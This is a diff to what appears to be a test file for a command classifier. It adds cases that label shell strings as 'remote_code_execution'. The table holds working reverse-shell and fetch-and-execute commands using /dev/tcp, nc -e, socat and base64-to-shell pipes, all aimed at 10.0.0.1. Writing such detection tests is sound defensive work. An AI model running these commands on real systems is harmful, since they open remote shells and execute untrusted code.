@@ -88,6 +88,9 @@ it.each([
   ['cat blob | base64 -d | sh', 'remote_code_execution'],
   ['openssl enc -d -aes-256-cbc -in x | bash', 'remote_code_execution'],
   ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'remote_code_execution'],
+  ['cat /dev/tcp/10.0.0.1/4444 | bash', 'remote_code_execution'],
+  ['cat < /dev/tcp/10.0.0.1/4444 | sh', 'remote_code_execution'],
+  ['source <(cat /dev/tcp/10.0.0.1/80)', 'remote_code_execution'],
   ['nc -e /bin/sh 10.0.0.1 4444', 'remote_code_execution'],
   ['socat TCP:10.0.0.1:4444 EXEC:/bin/sh', 'remote_code_execution'],
   [
